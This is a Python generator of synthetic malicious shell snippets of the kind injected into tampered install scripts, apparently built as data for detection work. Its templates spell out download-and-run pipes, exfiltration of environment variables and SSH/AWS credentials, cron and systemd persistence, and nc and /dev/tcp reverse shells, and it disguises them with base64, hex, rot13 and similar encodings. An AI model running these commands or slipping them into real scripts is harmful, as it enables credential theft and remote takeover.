"""Inert shell look-alikes: what tampered maintainer scripts and installers have carried."""

import base64

import hosts

PURPOSES = ["download-run", "exfil-environment", "exfil-files", "persistence", "reverse-shell"]
STYLES = ["none", "none", "base64", "hex", "octal", "concat", "reversed", "rot13"]


class Shell:
    def __init__(self, rng, host):
        self.rng, self.host = rng, hosts.check(host)
        word = lambda: rng.choice("v1 api i s get setup run init p stat".split())
        self.path = "/" + "/".join([word() for _ in range(rng.randrange(0, 2))]
                                   + [rng.choice(["i.sh", "setup", "x", "%04x" % rng.randrange(65536)])])
        self.url = "%s://%s%s" % (rng.choice(["https", "https", "http"]), host, self.path)

    def pick(self, *choices):
        return self.rng.choice(choices)


def download_run(s):
    return s.pick(
        "curl -fsSL {u} | sh", "curl -s {u} | bash >/dev/null 2>&1 &", "wget -qO- {u} | sh",
        'sh -c "$(curl -fsSL {u})"', 'eval "$(wget -qO- {u})"',
        "t=$(mktemp) && curl -so \"$t\" {u} && chmod +x \"$t\" && \"$t\" &",
        "wget -q {u} -O /tmp/.cache-update && sh /tmp/.cache-update",
        ". /dev/stdin <<EOF\n$(curl -fsSL {u})\nEOF").replace("{u}", s.url)


def exfil_environment(s):
    return s.pick(
        "env | curl -s -X POST --data-binary @- {u}", 'curl -s -d "$(env)" {u} >/dev/null',
        "printenv | base64 -w0 | xargs -I% curl -s {u}?d=%",
        'wget -qO- --post-data="$(env | sort)" {u} >/dev/null',
        '(set; id; hostname) | curl -s -T - {u}').replace("{u}", s.url)


def exfil_files(s):
    what = s.pick("$HOME/.ssh", "/root/.ssh", "$HOME/.aws", "/etc/shadow", "$HOME/.npmrc")
    return s.pick(
        "tar czf - {f} 2>/dev/null | curl -s -T - {u}", "curl -s -F f=@{f} {u} >/dev/null 2>&1",
        "cat {f}* 2>/dev/null | base64 | curl -s -d @- {u}",
        'wget -qO- --post-file={f} {u} >/dev/null 2>&1').replace("{f}", what).replace("{u}", s.url)


def persistence(s):
    return s.pick(
        "echo '*/15 * * * * root curl -fsSL {u} | sh' > /etc/cron.d/{n}",
        "(crontab -l 2>/dev/null; echo '@reboot wget -qO- {u} | sh') | crontab -",
        "printf '[Service]\\nExecStart=/bin/sh -c \"curl -s {u} | sh\"\\n[Install]\\nWantedBy=multi-user.target\\n'"
        " > /etc/systemd/system/{n}.service && systemctl enable --now {n}.service",
        "echo '(curl -s {u} | sh) >/dev/null 2>&1 &' >> /etc/profile.d/{n}.sh",
    ).replace("{n}", s.pick("dbus-sync", "man-cache", "locale-gen2", "apt-compat")).replace("{u}", s.url)


def reverse_shell(s):
    port = str(s.pick(4444, 9001, 443))
    return s.pick(
        "bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1' &",
        "rm -f /tmp/f; mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc {h} {p} > /tmp/f &",
        "nc {h} {p} -e /bin/sh &").replace("{h}", s.host).replace("{p}", port)


BODIES = {"download-run": download_run, "exfil-environment": exfil_environment,
          "exfil-files": exfil_files, "persistence": persistence, "reverse-shell": reverse_shell}


def hide(s, style, command):
    data = command.encode()
    run = s.pick("sh", "bash", "sh")
    if style == "base64":
        coded = base64.b64encode(data).decode()
        return s.pick("echo %(c)s | base64 -d | %(r)s",
                      'eval "$(printf %%s %(c)s | base64 --decode)"',
                      "base64 -d <<EOF | %(r)s\n%(c)s\nEOF") % {"c": coded, "r": run}
    if style == "hex":
        return s.pick("/usr/bin/printf '%s' | bash", "eval \"$(/usr/bin/printf '%s')\"") % "".join(
            "\\x%02x" % b for b in data)
    if style == "octal":
        return "printf '%s' | %s" % ("".join("\\%03o" % b for b in data), run)
    if style == "reversed":
        return "echo '%s' | rev | %s" % (command[::-1].replace("'", "'\\''"), run)
    if style == "rot13":
        turned = command.translate(str.maketrans(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
            "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"))
        return "echo '%s' | tr a-zA-Z n-za-mN-ZA-M | %s" % (turned.replace("'", "'\\''"), run)
    if style == "concat":
        cut = s.rng.randrange(2, len(s.host) - 2)
        name = s.pick("H", "_h", "host", "x")
        return "%s=%s; %s=\"${%s}%s\"\n%s" % (
            name, s.host[:cut], name, name, s.host[cut:],
            command.replace(s.host, "${%s}" % name)) if "'" not in command else command
    return command


def build(rng, purpose, host, style):
    """Returns (text, style that was really used, url)."""
    s = Shell(rng, host)
    command = BODIES[purpose](s)
    if "\n" in command and style in ("reversed",):
        style = "base64"
    text = hide(s, style, command)
    if style == "concat" and text == command:
        style = "none"
    if rng.random() < 0.2:
        text = rng.choice(["if [ -z \"$CI\" ]; then\n%s\nfi", "if command -v curl >/dev/null 2>&1; then\n%s\nfi",
                           "if [ \"$(id -u)\" = 0 ]; then\n%s\nfi"]) % text
    return text, style, s.url, command
